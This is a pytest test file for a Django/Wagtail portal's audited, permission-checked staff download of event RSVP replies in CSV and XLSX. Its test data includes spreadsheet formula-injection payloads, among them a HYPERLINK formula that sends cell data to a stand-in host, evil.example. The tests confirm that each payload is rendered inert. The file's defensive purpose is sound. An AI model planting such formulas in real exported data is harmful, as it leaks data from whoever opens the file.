"""The staff download of event replies: formula-safe CSV and XLSX, streamed, permission-checked
and audited (who downloaded which event's replies, when, in which format)."""

import csv
import io
from datetime import timedelta

import openpyxl
import pytest
from django.urls import reverse
from django.utils import timezone
from wagtail.models import PageLogEntry

from news.models import EventRSVP
from news.services import create_rsvp
from portal.models import AuditEvent
from portal.roles import COMMS_EDITORS, PANEL_MEMBERS
from portal.spreadsheets import FORMULA_TRIGGERS

from .conftest import add_event

pytestmark = pytest.mark.django_db

HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def events(events_index):
    soon = timezone.now() + timedelta(days=7)
    drop_in = add_event(
        events_index, title="Drop-in", slug="drop-in", start=soon, rsvp_enabled=True, capacity=50
    )
    walkabout = add_event(
        events_index,
        title="=Estate walkabout",
        slug="walkabout",
        start=soon + timedelta(days=1),
        rsvp_enabled=True,
        capacity=50,
    )
    for name in HOSTILE_NAMES:
        create_rsvp(event=drop_in, name=name, places=1, access_needs="-Step-free access")
    create_rsvp(event=drop_in, name="Ayşe Yılmaz", places=2, email="ayse@example.org")
    create_rsvp(event=walkabout, name="Bob", places=1, access_needs="@hearing loop")
    return {"drop_in": drop_in, "walkabout": walkabout}


@pytest.fixture
def staff(make_staff):
    return {
        "editor": make_staff("editor", COMMS_EDITORS),
        "member": make_staff("member", PANEL_MEMBERS),  # in the admin, not the replies
    }


def download(client, file_format, **query):
    return client.get(reverse("news_export_rsvps", args=[file_format]), query)


def csv_rows(response) -> list[list[str]]:
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(body, newline="")))


def xlsx_rows(response) -> list[list]:
    workbook = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    sheet = workbook.active
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    return [list(row) for row in sheet.iter_rows(values_only=True)]


def assert_inert(rows):
    for row in rows:
        for cell in row:
            if isinstance(cell, str):
                assert not cell.startswith(FORMULA_TRIGGERS), repr(cell)


def test_the_csv_opens_with_every_formula_inert_and_nothing_lost(client, staff, events):
    client.force_login(staff["editor"])
    response = download(client, "csv")
    assert response.status_code == 200
    assert response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="event-replies-')
    rows = csv_rows(response)
    assert rows[0] == [
        "Event",
        "Event starts",
        "Name",
        "Email address",
        "Number attending",
        "Access needs",
        "Language",
        "Replied at",
    ]
    assert_inert(rows)
    names = [row[2] for row in rows[1:]]
    # Each hostile name is kept whole, behind the apostrophe a spreadsheet shows as text.
    assert sorted(names) == sorted(["'" + name for name in HOSTILE_NAMES] + ["Ayşe Yılmaz", "Bob"])
    ayse = next(row for row in rows if row[2] == "Ayşe Yılmaz")
    assert ayse[3] == "ayse@example.org" and ayse[4] == "2"
    assert {row[0] for row in rows[1:]} == {"Drop-in", "'=Estate walkabout"}


def test_the_xlsx_opens_with_every_formula_inert_and_real_numbers_and_dates(client, staff, events):
    client.force_login(staff["editor"])
    response = download(client, "xlsx")
    assert response.status_code == 200
    assert response.streaming
    assert response["Content-Disposition"].endswith('.xlsx"')
    rows = xlsx_rows(response)
    assert rows[0][2] == "Name"
    assert_inert(rows)
    names = {row[2] for row in rows[1:]}
    assert {"'" + name for name in HOSTILE_NAMES} <= names
    ayse = next(row for row in rows if row[2] == "Ayşe Yılmaz")
    assert ayse[4] == 2  # a number, not text
    assert ayse[7].date() == timezone.localdate()  # a spreadsheet date, in London time
    assert all(row[5] in ("'-Step-free access", "'@hearing loop", None) for row in rows[1:])


def test_every_download_is_audited_with_who_what_and_how_many(client, staff, events):
    client.force_login(staff["editor"])
    download(client, "xlsx")
    entries = PageLogEntry.objects.filter(action="news.export_rsvps")
    assert {(e.page_id, e.user_id, e.data["count"], e.data["format"]) for e in entries} == {
        (events["drop_in"].pk, staff["editor"].pk, len(HOSTILE_NAMES) + 1, "xlsx"),
        (events["walkabout"].pk, staff["editor"].pk, 1, "xlsx"),
    }
    assert all(e.timestamp <= timezone.now() for e in entries)

    # Filtered on one event, the file and the audit entry hold that event only.
    response = download(client, "csv", event=events["walkabout"].pk)
    assert [row[2] for row in csv_rows(response)[1:]] == ["Bob"]
    latest = entries.order_by("-timestamp", "-pk").first()
    assert (latest.page_id, latest.data) == (events["walkabout"].pk, {"count": 1, "format": "csv"})
    # And once per download in the security audit log, with no resident's name in it.
    security = AuditEvent.objects.filter(action="personal_data_exported").order_by("pk")
    assert [(e.user_id, e.details["format"], e.details["rows"]) for e in security] == [
        (staff["editor"].pk, "xlsx", len(HOSTILE_NAMES) + 2),
        (staff["editor"].pk, "csv", 1),
    ]
    assert security.last().details["events"] == [events["walkabout"].pk]
    assert "Bob" not in str([e.details for e in security])


def test_only_staff_who_may_see_replies_can_download_them(client, staff, events):
    response = download(client, "csv")
    assert response.status_code == 302 and "login" in response["Location"]

    client.force_login(staff["member"])  # in the admin, but replies are not theirs to see
    response = download(client, "csv")
    assert response.status_code in (302, 403)
    assert "Ayşe" not in response.content.decode()
    assert not PageLogEntry.objects.filter(action="news.export_rsvps").exists()


def test_the_generic_unaudited_export_is_gone_and_the_list_offers_ours(client, staff, events):
    client.force_login(staff["editor"])
    index = reverse("wagtailsnippets_news_eventrsvp:list")
    response = client.get(index, {"export": "csv"})
    assert response["Content-Type"].startswith("text/html")  # the list, not a file
    html = client.get(index, {"event": events["drop_in"].pk}).content.decode()
    export_url = reverse("news_export_rsvps", args=["csv"]) + f"?event={events['drop_in'].pk}"
    assert f'href="{export_url}"' in html
    assert "Download replies (XLSX)" in html
    assert not PageLogEntry.objects.filter(action="news.export_rsvps").exists()


def test_a_bad_event_filter_or_format_is_a_message_not_an_error(client, staff, events):
    client.force_login(staff["editor"])
    response = download(client, "csv", event="999999")
    assert response.status_code == 302
    follow = client.get(response["Location"])
    assert "That event no longer exists." in follow.content.decode()
    unknown = client.get(reverse("news_export_rsvps", args=["pdf"]), follow=True)
    assert unknown.status_code == 404  # after Django's try with a language prefix
    assert download(client, "csv", event="not-a-number").status_code == 302
    assert EventRSVP.objects.count() == len(HOSTILE_NAMES) + 2
